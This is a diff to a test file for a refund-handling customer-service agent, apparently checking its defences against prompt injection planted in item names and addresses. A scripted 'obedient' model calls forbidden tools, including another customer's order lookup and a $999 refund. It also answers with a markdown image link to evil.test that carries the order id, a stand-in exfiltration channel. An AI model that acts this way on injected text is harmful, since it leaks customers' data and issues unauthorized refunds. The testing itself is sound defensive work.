@@ -5,6 +5,7 @@ import { lateCase, testPorts } from './agent.testing.ts';
 import type { AgentCase } from './agent-case.ts';
 import { askAgent } from './ask-agent.ts';
 import { attacks, personal } from './attacks.testing.ts';
+import type { AgentPorts } from './conversation.ts';
 import {
   type Exchange,
   type ScriptedServer,
@@ -15,36 +16,42 @@ import { finalizeAnswer } from './verdict.ts';
 
 let database: TestDatabase;
 let server: ScriptedServer;
-let answers: ReturnType<typeof finalizeAnswer>[];
+const answers: ReturnType<typeof finalizeAnswer>[] = [];
+const AT_ONCE = 8;
 const { signal } = new AbortController();
 const idOf = (at: number) => `attack-${at}`;
 
 /** The worst possible model: it calls forbidden tools, then does everything that the customer wrote, and repeats it. */
 function obedient(exchange: Exchange): void {
-  const { messages } = exchange.request;
-  if (messages.some(({ role }) => role === 'tool')) obey(exchange);
+  const { messages, tools } = exchange.request;
+  if (tools === undefined) obey(exchange);
+  else if (messages.some(({ role }) => role === 'tool')) sendMessage(exchange, { content: 'ready' });
   else
     sendMessage(exchange, {
       tool_calls: [
         call('a', 'get_order_details', { order_id: exchange.orderId }),
         call('b', 'get_order_details', { order_id: 'another-order' }),
         call('c', 'refund_now', { usd: 999 }),
+        call('d', 'get_order_delivery_time', { order_id: 'another-order' }),
       ],
     });
 }
 
 function obey(exchange: Exchange): void {
   const { messages } = exchange.request;
-  const seen = messages.map(({ content }) => content ?? '').join(' ');
-  const reason = `${/⟦([^⟧]*)⟧/.exec(seen)?.[1]} as the customer says. ![x](https://evil.test/?${exchange.orderId})`;
-  sendMessage(exchange, { content: JSON.stringify({ refund_usd: 999, refund_class: 'full', reason }) });
+  const seen = messages
+    .slice(1)
+    .map(({ content }) => content ?? '')
+    .join(' ');
+  const note = `${/⟦([^⟧]*)⟧/.exec(seen)?.[1]?.replace(/\p{N}/gu, '')} as the customer says. ![x](https://evil.test/?${exchange.orderId})`;
+  sendMessage(exchange, { content: JSON.stringify({ grounds: ['late'], refund_usd: 999, note }) });
 }
 
 function call(id: string, name: string, given: object) {
   return { id, type: 'function', function: { name, arguments: JSON.stringify(given) } };
 }
 
-/** Every third order was on time; every fifth has the attack for its location too. */
+/** Every third order gets nothing by the policy; every fifth has the attack for its location too. */
 function caseOf(at: number): AgentCase {
   const onTime = {
     policy: { refundClass: 'none', refundCents: 0 },
@@ -69,19 +76,23 @@ beforeAll(async () => {
   );
   await Promise.all(attacks.map(({ text }, at) => writeAttack(idOf(at), text)));
   server = await startScriptedServer(obedient);
-  const ports = testPorts(database, server.baseUrl, { timeoutMs: 20_000 });
-  answers = await Promise.all(
-    attacks.map(async (_, at) => {
-      const verdict = await askAgent(ports, caseOf(at), signal);
-      if (verdict.outcome !== 'answered') throw new Error(`attack ${at} got no answer: ${verdict.message}`);
-      return finalizeAnswer(caseOf(at), verdict);
-    }),
-  );
+  const ports = testPorts(database, server.baseUrl, { timeoutMs: 20_000, mode: 'tools' });
+  for (let from = 0; from < attacks.length; from += AT_ONCE) {
+    const some = attacks.slice(from, from + AT_ONCE).map((_, at) => caseOf(from + at));
+    answers.push(...(await Promise.all(some.map((attacked) => answer(ports, attacked)))));
+  }
 });
 afterAll(async () => {
   await server.close();
   await database.close();
 });
+
+async function answer(ports: AgentPorts, attacked: AgentCase) {
+  const verdict = await askAgent(ports, attacked, signal);
+  if (verdict.outcome !== 'answered')
+    throw new Error(`${attacked.orderId} got no answer: ${verdict.message}`);
+  return finalizeAnswer(attacked, verdict);
+}
 
 /** The attack as the name of an item, and in the address beside a person's data. */
 async function writeAttack(orderId: string, text: string): Promise<void> {
@@ -146,6 +157,6 @@ test('another order cannot be looked up, and no tool changes anything', async ()
     request.messages.filter(({ role }) => role === 'tool'),
   );
   const refused = results.filter(({ content }) => content?.includes('"error"'));
-  expect(results.length).toBe(3 * attacks.length);
-  expect(refused.length).toBe(2 * attacks.length);
+  expect(results.length).toBe(4 * attacks.length);
+  expect(refused.length).toBe(3 * attacks.length);
 });
